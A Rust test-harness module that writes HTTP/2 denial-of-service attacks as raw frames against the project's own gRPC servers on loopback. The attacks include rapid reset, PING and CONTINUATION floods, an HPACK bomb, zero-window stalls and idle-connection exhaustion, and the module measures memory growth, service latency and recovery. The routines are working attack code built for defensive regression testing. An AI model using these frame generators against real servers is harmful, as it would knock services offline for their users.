//! HTTP/2 attacks written as raw frames (issue 12), and what one costs a
//! server running in its own process: its RSS growth during the attack, how
//! long a well-behaved call on another connection waits while the attack
//! runs, what the attacker saw, and how soon the server is idle again.
//! tests/http2_attacks.rs asserts these figures for our servers;
//! tests/attacks.rs (`make attacks`) prints them beside grpc-go's.
//! Loopback only; every attack is bounded in frames and time.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{mpsc, Arc};
use std::time::{Duration, Instant};

use futures::stream::{self, StreamExt};
use grpc_stream::contract::helloworld::{AllStreamReq, ClientStreamReq};

use super::{connect_to, cpu_time, h2, raw, try_rss_bytes, within, ServerProcess, STEP};

/// The three servers of the contract.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Pattern {
    ServerPush,
    ClientPush,
    BothWays,
}

impl Pattern {
    pub const ALL: [Pattern; 3] = [Pattern::ServerPush, Pattern::ClientPush, Pattern::BothWays];

    /// The server program (ours and the Go peer's have the same names).
    pub fn program(self) -> &'static str {
        match self {
            Pattern::ServerPush => "server_stream_server",
            Pattern::ClientPush => "client_stream_server",
            Pattern::BothWays => "all_stream_server",
        }
    }

    pub fn path(self) -> &'static str {
        match self {
            Pattern::ServerPush => "/helloworld.ServerStreamServer/ServerStream",
            Pattern::ClientPush => "/helloworld.ClientStreamServer/ClientStream",
            Pattern::BothWays => "/helloworld.AllStreamServer/AllStream",
        }
    }
}

/// The attacks: issue 12's table first, then those to keep passing.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// One connection, 20,000 HEADERS + RST_STREAM pairs.
    RapidReset,
    /// 4 connections each open a stream, never read, send 10,000 PINGs.
    PingFlood,
    /// One connection that never ACKs SETTINGS opens 3,048 streams.
    UnackedSettings,
    /// 3 connections x 1,000 streams: HEADERS and never a message.
    HeldStreams,
    /// 500 connections send half the preface and stall.
    HalfPreface,
    /// 100 streams whose headers each name one 4,000-byte table entry
    /// 4,000 times (16 MB each once decoded, from 4 KB on the wire).
    HpackBomb,
    /// A header block that never ends: HEADERS, then 100,000 CONTINUATION
    /// frames each adding a field.
    ContinuationFlood,
    /// 100,000 SETTINGS frames, their ACKs never read.
    SettingsFlood,
    /// A client with a zero window (SETTINGS_INITIAL_WINDOW_SIZE 0, never a
    /// WINDOW_UPDATE) opens 1,000 calls and never reads.
    ZeroWindow,
    /// A DATA frame declaring 16 MiB, past SETTINGS_MAX_FRAME_SIZE (16 KiB).
    OversizedFrame,
    /// HEADERS and DATA whose pad length exceeds the frame.
    BadPadding,
    /// WINDOW_UPDATEs that push the connection's and a stream's window past
    /// 2^31 - 1.
    WindowUpdateOverflow,
    /// DATA and RST_STREAM on stream 0, 1,000 HEADERS on even (server)
    /// stream ids.
    WrongStreamIds,
    /// 100 calls whose request's gRPC prefix claims 4 GiB.
    HugeLengthPrefix,
    /// 2,000 connections that finish their handshake and go quiet.
    IdleConnections,
}

impl Attack {
    /// The rows of issue 12's table.
    pub const TABLE: [Attack; 5] = [
        Attack::RapidReset,
        Attack::PingFlood,
        Attack::UnackedSettings,
        Attack::HeldStreams,
        Attack::HalfPreface,
    ];

    /// The attacks the issue found held, to keep held.
    pub const KEEP_PASSING: [Attack; 10] = [
        Attack::HpackBomb,
        Attack::ContinuationFlood,
        Attack::SettingsFlood,
        Attack::ZeroWindow,
        Attack::OversizedFrame,
        Attack::BadPadding,
        Attack::WindowUpdateOverflow,
        Attack::WrongStreamIds,
        Attack::HugeLengthPrefix,
        Attack::IdleConnections,
    ];
}

/// What one attack cost a server.
#[derive(Debug)]
pub struct Outcome {
    /// Peak RSS during the attack minus RSS before it.
    pub growth_mib: f64,
    /// How long a well-behaved call on its own connection took to its first
    /// answer while the attack ran, or why it got none.
    pub normal_call: Result<Duration, String>,
    /// What came back to the attacker.
    pub saw: String,
    /// How long after the attacker left the server's CPU use fell below 10%
    /// of a core; `None`: not within [`IDLE_WITHIN`].
    pub idle_after: Option<Duration>,
    /// Whether the server process was still running at the end.
    pub alive: bool,
}

impl Outcome {
    /// The figures issue 12 asks of every server and attack: alive, under
    /// `max_growth_mib`, a normal call served within 1 s, idle again.
    pub fn assert_held(&self, what: &str, max_growth_mib: f64) {
        eprintln!("{what}: {}", self.summary());
        assert!(self.alive, "{what}: the server died");
        assert!(
            self.growth_mib < max_growth_mib,
            "{what}: RSS +{:.0} MiB",
            self.growth_mib
        );
        match &self.normal_call {
            Ok(took) => assert!(*took < Duration::from_secs(1), "{what}: {took:?}"),
            Err(e) => panic!("{what}: the normal call failed: {e}"),
        }
        assert!(self.idle_after.is_some(), "{what}: still busy afterwards");
    }

    /// The table's columns: RSS growth | a normal call meanwhile | the
    /// attacker saw | idle again after.
    pub fn summary(&self) -> String {
        let normal = match &self.normal_call {
            Ok(took) => format!("{} ms", took.as_millis()),
            Err(e) => e.clone(),
        };
        let idle = match self.idle_after {
            Some(after) => format!("{:.1} s", after.as_secs_f64()),
            None => format!("busy after {} s", IDLE_WITHIN.as_secs()),
        };
        let died = if self.alive { "" } else { " (server died)" };
        format!(
            "+{:.0} MiB | {normal} | {} | {idle}{died}",
            self.growth_mib, self.saw
        )
    }
}

/// How long a server may stay busy after an attack before it counts as not
/// idle again (our servers end held calls after their 10 s first-message
/// timeout; that is not the server being busy).
pub const IDLE_WITHIN: Duration = Duration::from_secs(10);

/// Runs `attack` against `server` (a `pattern` server), with a normal call
/// on another connection while it runs.
pub fn measure(server: &ServerProcess, pattern: Pattern, attack: Attack) -> Outcome {
    let pid = server.pid();
    let before = try_rss_bytes(pid).unwrap_or(0);
    let sampling = Arc::new(AtomicBool::new(true));
    let sampler = {
        let sampling = Arc::clone(&sampling);
        std::thread::spawn(move || {
            let mut peak = before;
            while sampling.load(Ordering::Relaxed) {
                peak = peak.max(try_rss_bytes(pid).unwrap_or(0));
                // The sampling period.
                within(
                    Duration::from_secs(1),
                    futures_timer::Delay::new(Duration::from_millis(10)),
                );
            }
            peak
        })
    };
    let addr = server.addr.clone();
    let (began, begun) = mpsc::channel();
    let (finish, done) = mpsc::channel::<()>();
    let attacker = std::thread::spawn(move || {
        run(
            attack,
            pattern,
            &addr,
            move || {
                let _ = began.send(());
            },
            done,
        )
    });
    let _ = begun.recv_timeout(STEP);
    let normal_call = normal_call(pattern, &server.addr);
    let _ = finish.send(());
    let saw = attacker
        .join()
        .unwrap_or_else(|_| "the attacker panicked".into());
    sampling.store(false, Ordering::Relaxed);
    let peak = sampler.join().unwrap_or(before);
    let idle_after = idle_after(pid);
    Outcome {
        growth_mib: peak.saturating_sub(before) as f64 / (1 << 20) as f64,
        normal_call,
        saw,
        idle_after,
        alive: cpu_time(pid).is_some(),
    }
}

/// How long until the process used less than 10% of a core over 300 ms,
/// within [`IDLE_WITHIN`].
fn idle_after(pid: u32) -> Option<Duration> {
    let left = Instant::now();
    let window = Duration::from_millis(300);
    let mut used = cpu_time(pid)?;
    while left.elapsed() < IDLE_WITHIN {
        within(STEP, futures_timer::Delay::new(window));
        let now = cpu_time(pid)?;
        if now.saturating_sub(used) <= window / 10 {
            return Some(left.elapsed());
        }
        used = now;
    }
    None
}

/// A well-behaved call of `pattern` on its own connection: time to its
/// first answer, or why there was none within 5 s.
pub fn normal_call(pattern: Pattern, addr: &str) -> Result<Duration, String> {
    let started = Instant::now();
    let client = connect_to(addr, Some(Duration::from_secs(5)));
    let answered = within(Duration::from_secs(10), async {
        match pattern {
            Pattern::ServerPush => client
                .server_stream("1".into())?
                .next()
                .await
                .transpose()
                .map(|_| ()),
            Pattern::ClientPush => client
                .client_stream(stream::iter([ClientStreamReq::from("1")]))
                .await
                .map(|_| ()),
            Pattern::BothWays => client
                .all_stream(stream::iter([AllStreamReq::from("1")]))?
                .next()
                .await
                .transpose()
                .map(|_| ()),
        }
    });
    answered.map(|()| started.elapsed()).map_err(|e| {
        format!(
            "{} ({} ms)",
            grpc_stream::code_name(e.code()),
            started.elapsed().as_millis()
        )
    })
}

/// A request message as DATA on `stream` (gRPC-framed), ending the stream
/// when `end`.
fn request(stream: u32, end: bool) -> Vec<u8> {
    let message = raw::message(b"1");
    let mut payload = h2::grpc_prefix(message.len() as u32);
    payload.extend(message);
    h2::frame(0x0, u8::from(end), stream, &payload)
}

/// A connection that has sent the preface and its SETTINGS (`extra` added
/// to them), and ACKed the server's when `ack`.
fn opened(addr: &str, settings: &[(u16, u32)], ack: bool) -> Option<TcpStream> {
    let mut socket = TcpStream::connect(addr).ok()?;
    // Writes that the server stops reading must not hang the attacker.
    socket
        .set_write_timeout(Some(Duration::from_secs(5)))
        .ok()?;
    let mut opening = h2::PREFACE.to_vec();
    opening.extend(h2::settings_with(settings));
    if ack {
        opening.extend(h2::settings_ack());
    }
    socket.write_all(&opening).ok()?;
    Some(socket)
}

/// Writes `frames` on `socket`: whether they all went out (a server that
/// stops reading makes the write time out).
fn send(mut socket: &TcpStream, frames: &[u8]) -> bool {
    socket.write_all(frames).is_ok()
}

/// Runs `attack` on `addr`: calls `begun` once its first frames are out,
/// keeps its connections open until `done` (at most [`STEP`]), and returns
/// what it saw.
fn run(
    attack: Attack,
    pattern: Pattern,
    addr: &str,
    begun: impl FnOnce(),
    done: mpsc::Receiver<()>,
) -> String {
    let path = pattern.path();
    // Server push's request ends the client's side; the others stay open.
    let end = pattern == Pattern::ServerPush;
    // Keeps the connections open until the normal call is over, then says
    // what came back: on each of up to 3 connections, else on the last.
    let hold = |sockets: Vec<TcpStream>, note: String| {
        let _ = done.recv_timeout(STEP);
        let shown = if sockets.len() <= 3 {
            &sockets[..]
        } else {
            &sockets[sockets.len() - 1..]
        };
        let saw: Vec<String> = shown
            .iter()
            .map(|socket| seen(socket, Duration::from_secs(1)))
            .collect();
        if saw.is_empty() {
            format!("{note}no connection")
        } else {
            format!("{note}{}", saw.join(" / "))
        }
    };
    match attack {
        Attack::RapidReset => {
            let Some(socket) = opened(addr, &[], true) else {
                return "refused".into();
            };
            let mut begun = Some(begun);
            let mut pairs = 0;
            for batch in 0..100u32 {
                let mut frames = Vec::new();
                for i in 0..200 {
                    let stream = 1 + 2 * (batch * 200 + i);
                    frames.extend(h2::headers(stream, path));
                    frames.extend(h2::rst_stream(stream, 8));
                }
                if !send(&socket, &frames) {
                    break;
                }
                pairs += 200;
                if let Some(begun) = begun.take() {
                    begun();
                }
            }
            if let Some(begun) = begun.take() {
                begun();
            }
            hold(vec![socket], format!("{pairs} pairs sent; "))
        }
        Attack::PingFlood => {
            let sockets: Vec<TcpStream> = (0..4)
                .filter_map(|_| {
                    let socket = opened(addr, &[], true)?;
                    let mut frames = h2::headers(1, path);
                    frames.extend(request(1, end));
                    send(&socket, &frames).then_some(socket)
                })
                .collect();
            begun();
            let mut sent = 0;
            for socket in &sockets {
                let pings: Vec<u8> = (0..10_000u64).flat_map(h2::ping).collect();
                if send(socket, &pings) {
                    sent += 10_000;
                }
            }
            hold(sockets, format!("{sent} PINGs sent; "))
        }
        Attack::UnackedSettings => {
            let Some(socket) = opened(addr, &[], false) else {
                return "refused".into();
            };
            let mut frames = Vec::new();
            for i in 0..3048u32 {
                frames.extend(h2::headers(1 + 2 * i, path));
                frames.extend(request(1 + 2 * i, end));
            }
            let sent = send(&socket, &frames);
            begun();
            hold(vec![socket], format!("all sent: {sent}; "))
        }
        Attack::HeldStreams => {
            let sockets: Vec<TcpStream> = (0..3)
                .filter_map(|_| {
                    let socket = opened(addr, &[], true)?;
                    let frames: Vec<u8> = (0..1000u32)
                        .flat_map(|i| h2::headers(1 + 2 * i, path))
                        .collect();
                    send(&socket, &frames).then_some(socket)
                })
                .collect();
            begun();
            hold(sockets, String::new())
        }
        Attack::HalfPreface => {
            let started = Instant::now();
            let sockets: Vec<TcpStream> = (0..500)
                .filter_map(|_| {
                    let socket = TcpStream::connect(addr).ok()?;
                    send(&socket, &h2::PREFACE[..12]).then_some(socket)
                })
                .collect();
            begun();
            let _ = done.recv_timeout(STEP);
            // Each closed by the server (EOF or reset), or still open 12 s
            // after the first (past our 10 s default handshake timeout).
            let give_up = started + Duration::from_secs(12);
            let mut last_closed = Duration::ZERO;
            let open = sockets
                .iter()
                .filter(|socket| {
                    let closed = closed_by(socket, give_up);
                    if closed {
                        last_closed = started.elapsed();
                    }
                    !closed
                })
                .count();
            if open == 0 {
                format!(
                    "all {} closed within {:.1} s",
                    sockets.len(),
                    last_closed.as_secs_f64()
                )
            } else {
                format!("{open} of {} still open after 12 s", sockets.len())
            }
        }
        Attack::HpackBomb => {
            let Some(socket) = opened(addr, &[], true) else {
                return "refused".into();
            };
            // Stream 1 puts a 4,000-byte field in the server's HPACK table
            // (4,096 bytes by default); each later stream names it 4,000 times.
            let mut block = h2::header_block(path);
            block.extend(h2::indexed_literal("x-bomb", &[b'b'; 4000]));
            let mut frames = h2::frame(0x1, 0x4, 1, &block);
            for i in 1..=100u32 {
                let mut block = h2::header_block(path);
                block.extend(std::iter::repeat_n(h2::FIRST_DYNAMIC_ENTRY, 4000));
                frames.extend(h2::frame(0x1, 0x4, 1 + 2 * i, &block));
            }
            let sent = send(&socket, &frames);
            begun();
            hold(vec![socket], format!("all sent: {sent}; "))
        }
        Attack::ContinuationFlood => {
            let Some(socket) = opened(addr, &[], true) else {
                return "refused".into();
            };
            let mut frames = h2::frame(0x1, 0, 1, &h2::header_block(path));
            let mut sent = 0;
            let field = [0x00, 1, b'x', 4, b'a', b'b', b'c', b'd'];
            for _ in 0..10 {
                for _ in 0..10_000 {
                    frames.extend(h2::continuation(1, false, &field));
                }
                if !send(&socket, &frames) {
                    break;
                }
                frames.clear();
                sent += 10_000;
            }
            begun();
            hold(vec![socket], format!("{sent} CONTINUATIONs sent; "))
        }
        Attack::SettingsFlood => {
            let Some(socket) = opened(addr, &[], true) else {
                return "refused".into();
            };
            let mut sent = 0;
            for _ in 0..10 {
                let frames: Vec<u8> = (0..10_000)
                    .flat_map(|_| h2::settings_with(&[(0x4, 65_535)]))
                    .collect();
                if !send(&socket, &frames) {
                    break;
                }
                sent += 10_000;
            }
            begun();
            hold(vec![socket], format!("{sent} SETTINGS sent; "))
        }
        Attack::ZeroWindow => {
            // SETTINGS_INITIAL_WINDOW_SIZE (4) = 0.
            let Some(socket) = opened(addr, &[(0x4, 0)], true) else {
                return "refused".into();
            };
            let mut frames = Vec::new();
            for i in 0..1000u32 {
                frames.extend(h2::headers(1 + 2 * i, path));
                frames.extend(request(1 + 2 * i, end));
            }
            let sent = send(&socket, &frames);
            begun();
            hold(vec![socket], format!("all sent: {sent}; "))
        }
        Attack::OversizedFrame => {
            let Some(socket) = opened(addr, &[], true) else {
                return "refused".into();
            };
            let mut frames = h2::headers(1, path);
            // The header claims 16 MiB - 1; 1 MiB of it follows.
            let mut data = h2::frame(0x0, 0, 1, &[]);
            data[..3].copy_from_slice(&[0xff, 0xff, 0xff]);
            frames.extend(data);
            frames.extend(vec![0u8; 1 << 20]);
            let _ = send(&socket, &frames);
            begun();
            hold(vec![socket], String::new())
        }
        Attack::BadPadding => {
            let sockets: Vec<TcpStream> = [true, false]
                .into_iter()
                .filter_map(|in_headers| {
                    let socket = opened(addr, &[], true)?;
                    let frames = if in_headers {
                        // PADDED (0x8): pad length 255 in a 10-byte frame.
                        let mut payload = vec![255];
                        payload.extend_from_slice(&h2::header_block(path)[..9]);
                        h2::frame(0x1, 0x4 | 0x8, 1, &payload)
                    } else {
                        let mut frames = h2::headers(1, path);
                        frames.extend(h2::frame(0x0, 0x8, 1, &[200, 0, 0, 0, 0, 1]));
                        frames
                    };
                    send(&socket, &frames).then_some(socket)
                })
                .collect();
            begun();
            hold(sockets, String::new())
        }
        Attack::WindowUpdateOverflow => {
            let sockets: Vec<TcpStream> = [0u32, 1]
                .into_iter()
                .filter_map(|stream| {
                    let socket = opened(addr, &[], true)?;
                    let mut frames = if stream == 0 {
                        Vec::new()
                    } else {
                        h2::headers(stream, path)
                    };
                    frames.extend(h2::window_update(stream, 0x7fff_ffff));
                    frames.extend(h2::window_update(stream, 0x7fff_ffff));
                    send(&socket, &frames).then_some(socket)
                })
                .collect();
            begun();
            hold(sockets, String::new())
        }
        Attack::WrongStreamIds => {
            let attempts = [
                h2::frame(0x0, 0, 0, &request(0, false)[9..]),
                h2::rst_stream(0, 8),
                (0..1000u32)
                    .flat_map(|i| h2::headers(2 + 2 * i, path))
                    .collect(),
            ];
            let sockets: Vec<TcpStream> = attempts
                .iter()
                .filter_map(|frames| {
                    let socket = opened(addr, &[], true)?;
                    send(&socket, frames).then_some(socket)
                })
                .collect();
            begun();
            hold(sockets, String::new())
        }
        Attack::HugeLengthPrefix => {
            let Some(socket) = opened(addr, &[], true) else {
                return "refused".into();
            };
            let mut frames = Vec::new();
            for i in 0..100u32 {
                let stream = 1 + 2 * i;
                frames.extend(h2::headers(stream, path));
                let mut payload = h2::grpc_prefix(u32::MAX);
                payload.extend_from_slice(b"just a few bytes");
                frames.extend(h2::frame(0x0, 0, stream, &payload));
            }
            let sent = send(&socket, &frames);
            begun();
            hold(vec![socket], format!("all sent: {sent}; "))
        }
        Attack::IdleConnections => {
            let sockets: Vec<TcpStream> =
                (0..2000).filter_map(|_| opened(addr, &[], true)).collect();
            begun();
            let count = sockets.len();
            hold(sockets, format!("{count} connections; "))
        }
    }
}

/// Whether the server closed `socket` (EOF or a reset) before `give_up`.
fn closed_by(mut socket: &TcpStream, give_up: Instant) -> bool {
    let mut buf = [0u8; 256];
    loop {
        let left = give_up.saturating_duration_since(Instant::now());
        if left.is_zero() {
            return false;
        }
        socket.set_read_timeout(Some(left)).ok();
        match socket.read(&mut buf) {
            Ok(0) => return true,
            Ok(_) => continue,
            Err(e)
                if e.kind() == std::io::ErrorKind::WouldBlock
                    || e.kind() == std::io::ErrorKind::TimedOut =>
            {
                return false
            }
            Err(_) => return true,
        }
    }
}

/// What came back on `socket` within `wait`: frame counts by kind, the
/// GOAWAY's error code, whether the server closed the connection.
fn seen(mut socket: &TcpStream, wait: Duration) -> String {
    let mut bytes = Vec::new();
    let mut buf = [0u8; 64 * 1024];
    let deadline = Instant::now() + wait;
    let closed = loop {
        let left = deadline.saturating_duration_since(Instant::now());
        if left.is_zero() {
            break false;
        }
        socket.set_read_timeout(Some(left)).ok();
        match socket.read(&mut buf) {
            Ok(0) => break true,
            Ok(n) => bytes.extend_from_slice(&buf[..n]),
            Err(e)
                if e.kind() == std::io::ErrorKind::WouldBlock
                    || e.kind() == std::io::ErrorKind::TimedOut =>
            {
                break false
            }
            Err(_) => break true,
        }
    };
    let (mut headers, mut resets) = (0, 0);
    for (kind, _, _) in h2::frames(&bytes) {
        match kind {
            0x1 => headers += 1,
            0x3 => resets += 1,
            _ => {}
        }
    }
    let goaway = goaway_code(&bytes).map_or(String::new(), |code| format!(", GOAWAY {code}"));
    let closed = if closed { ", closed" } else { "" };
    format!("{headers} HEADERS, {resets} RST_STREAM{goaway}{closed}")
}

/// The error code of the last GOAWAY in `bytes` (bytes 4..8 of its payload).
fn goaway_code(bytes: &[u8]) -> Option<u32> {
    let mut at = 0;
    let mut code = None;
    while let Some(header) = bytes.get(at..at + 9) {
        let len =
            (usize::from(header[0]) << 16) | (usize::from(header[1]) << 8) | usize::from(header[2]);
        if header[3] == 0x7 {
            if let Some(payload) = bytes.get(at + 9..at + 17) {
                code = Some(u32::from_be_bytes([
                    payload[4], payload[5], payload[6], payload[7],
                ]));
            }
        }
        at += 9 + len;
    }
    code
}
